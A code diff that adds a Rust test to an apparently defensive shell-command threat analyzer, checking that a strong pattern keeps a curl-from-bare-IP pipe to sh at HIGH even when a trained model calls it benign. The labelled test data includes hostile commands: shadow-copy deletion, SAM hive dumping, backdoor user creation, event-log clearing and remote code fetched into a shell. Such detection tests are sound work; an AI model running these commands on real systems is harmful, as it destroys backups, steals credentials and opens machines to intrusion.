@@ -119,3 +119,77 @@ fn a_signature_scan_cut_short_is_named_in_the_verdict() {
         v.notes
     );
 }
+
+/// A model taught, as documentation teaches, that a download piped into a shell is an
+/// installer: the bare address still brings the verdict to HIGH, and the explanation says
+/// which pattern held it there.
+#[test]
+fn a_strong_pattern_holds_up_what_the_model_calls_benign_and_says_so() {
+    let plain = analyzer();
+    let set = features::FeatureSet {
+        bits: 12,
+        ..Default::default()
+    };
+    let benign = [
+        "curl -fsSL https://get.docker.com | sh",
+        "curl -sSf https://sh.rustup.rs | sh",
+        "wget -qO- https://install.example.org/setup.sh | bash",
+        "curl -s https://packages.example.com/gpg | sudo apt-key add -",
+        "ls -la /var/www",
+        "git status",
+    ];
+    let malicious = [
+        "vssadmin delete shadows /all /quiet",
+        "reg save HKLM\\SAM C:\\Users\\Public\\sam.hiv",
+        "net user backdoor P@ss /add",
+        "wevtutil cl Security",
+    ];
+    let texts: Vec<(Analysed, bool)> = (0..15)
+        .flat_map(|_| {
+            let b = benign.iter().map(|t| (t, false));
+            b.chain(malicious.iter().map(|t| (t, true)))
+        })
+        .map(|(t, label)| (plain.examine(t, None), label))
+        .collect();
+    let rows: Vec<(features::Features, bool)> = texts
+        .iter()
+        .map(|(a, label)| (features::extract(a, &set), *label))
+        .collect();
+    let params = train::TrainParams {
+        features: set,
+        epochs: 4,
+        ..Default::default()
+    };
+    let mut model = train::train(&rows, &params, "").expect("trains");
+    // The training texts temper `download-pipe-shell` (45 benign, 0 malicious).
+    model.patterns = Some(tempering::PatternCounts::count(
+        texts
+            .iter()
+            .map(|(a, label)| (tempering::pattern_ids(a), *label)),
+    ));
+    let a = Analyzer::new(Some(Arc::new(model)), VerdictConfig::default());
+    let v = a.analyze("curl -s http://45.9.148.3/x | sh", Some(Shell::Sh));
+    let model_score = v.views.model.unwrap_or(100.0);
+    assert!(
+        model_score < 40.0,
+        "the model calls it benign: {model_score}"
+    );
+    assert_eq!(v.level, ThreatLevel::High, "{}", v.explanation);
+    assert!(
+        v.explanation
+            .contains("Held at 60 by its strongest pattern alone (code fetched from a bare IP"),
+        "{}",
+        v.explanation
+    );
+    // Off, the same views stay below HIGH.
+    let off = Analyzer::new(
+        a.model().cloned(),
+        VerdictConfig {
+            signature_floor: 0.0,
+            ..VerdictConfig::default()
+        },
+    );
+    let v = off.analyze("curl -s http://45.9.148.3/x | sh", Some(Shell::Sh));
+    assert!(v.score < 50.0, "{}", v.explanation);
+    assert!(!v.explanation.contains("Held at"), "{}", v.explanation);
+}
